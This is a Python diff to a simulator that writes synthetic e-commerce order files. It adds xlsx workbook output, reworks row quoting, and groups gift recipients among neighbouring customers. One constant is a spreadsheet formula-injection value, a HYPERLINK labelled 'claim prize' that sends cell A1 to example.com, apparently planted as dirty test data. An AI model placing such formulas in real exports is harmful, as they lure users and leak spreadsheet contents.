@@ -19,11 +19,14 @@ from yutang.simulator.names import GIVEN_NAMES, SURNAMES
 from yutang.simulator.orders import DAY, NONE, OrderBook, Orders
 from yutang.simulator.people import NICKNAMES, PLACES, ROADS, People
 from yutang.simulator.plan import Plan
-from yutang.simulator.scribe import Piece, Scribe, Sheet
+from yutang.simulator.scribe import PLAIN, Form, Piece, Scribe, Sheet
+from yutang.simulator.workbook import Workbook
 
 #: A formula that a spreadsheet would run, inside a quoted cell (its quotes are doubled).
 FORMULA: Final = '=HYPERLINK(""http://example.com/?""&A1,""领奖"")'
 BAD_PHONES: Final = ("12345", "00000000000", "无", "1455012", "13800")
+#: People send gifts within groups of this many.
+_NEIGHBOURS: Final = 4096
 _TITLES: Final = ("女士", "先生", "小姐", "老师")
 _PROVINCES: Final = tuple(place[0] for place in PLACES)
 _CITIES: Final = tuple(place[1] for place in PLACES)
@@ -89,7 +92,7 @@ class Writer:
         self.desk = desk
         self.scribe = Scribe(self.encoding, first_date=desk.plan.from_date)
         self.orders = 0
-        self.sheets: list[Sheet] = []
+        self.sheets: list[Sheet | Workbook] = []
 
     def write(self, orders: Orders) -> pa.Array:
         """Append the orders and return their numbers as the platform gives them, as strings."""
@@ -101,7 +104,7 @@ class Writer:
     def close(self) -> None:
         """Close the files."""
         for sheet in self.sheets:
-            sheet.__exit__(None, None, None)
+            sheet.close()
 
     def sheet(self, name: str, header: str, *, encoding: str | None = None) -> Sheet:
         """Open a file in the folder of this writer, in its encoding or another."""
@@ -109,6 +112,12 @@ class Writer:
         sheet = Sheet(path, encoding=encoding or self.encoding, header=header)
         self.sheets.append(sheet)
         return sheet
+
+    def workbook(self, name: str, header: str) -> Workbook:
+        """Open an xlsx file in the folder of this writer."""
+        workbook = Workbook(self.desk.folder / self.platform / name, header=header)
+        self.sheets.append(workbook)
+        return workbook
 
     def utf8(self) -> Scribe:
         """Return the scribe of the rows of a file whose first bytes are a mark of UTF-8."""
@@ -121,27 +130,21 @@ class Writer:
         return numbers
 
     def row(
-        self,
-        header: str,
-        cells: Mapping[str, Piece],
-        *,
-        quote: str = "",
-        end: str = "\r\n",
-        raw: frozenset[str] = frozenset(),
+        self, header: str, cells: Mapping[str, Piece], *, form: Form = PLAIN, raw: frozenset[str] = frozenset()
     ) -> pa.Array:
         """Return rows from cells by header name; a name without a cell is empty. Names in `raw` bring their own quotes."""
         pieces: list[Piece] = []
-        constant = ""
+        constant = form.start
         for position, name in enumerate(header.split(",")):
-            mark = "" if name in raw else quote
-            constant += ("," if position else "") + mark
+            opening, closing = ("", "") if name in raw else (form.opening, form.closing)
+            constant += (form.between if position else "") + opening
             cell = cells.get(name, "")
             if isinstance(cell, str):
-                constant += cell + mark
+                constant += cell + closing
             else:
                 pieces += [constant, cell] if constant else [cell]
-                constant = mark
-        return self.scribe.join(*pieces, constant + end)
+                constant = closing
+        return self.scribe.join(*pieces, constant + form.end)
 
     # Pieces that several platforms show.
 
@@ -173,10 +176,15 @@ class Writer:
         return self.desk.dice.whole("spec", orders["key"] * 4 + nth, len(self.desk.catalogue.specs))
 
     def receiver(self, orders: Orders) -> Ints:
-        """Return the person who gets the goods: a gift goes to another one."""
-        given = self.desk.dice.happens("gift", orders["key"], self.desk.plan.untidiness.gift)
-        other = self.desk.dice.whole("gift for", orders["key"], self.desk.plan.customers)
-        return np.where(given, other, orders["person"].astype(np.int64))
+        """Return the person who gets the goods: a gift goes to somebody else, who may or may not be a customer."""
+        dice, untidiness = self.desk.dice, self.desk.plan.untidiness
+        buyer = orders["person"].astype(np.int64)
+        given = dice.happens("gift", orders["key"], untidiness.gift)
+        usual = dice.happens("gift to the usual friend", orders["key"], untidiness.gift_habit)
+        friend = buyer // _NEIGHBOURS * _NEIGHBOURS + np.where(
+            usual, dice.whole("usual friend", buyer, _NEIGHBOURS), dice.whole("gift for", orders["key"], _NEIGHBOURS)
+        )
+        return np.where(given & (friend != buyer), friend, buyer)
 
     def name(self, ids: Ints) -> pa.Array:
         """Return full names."""
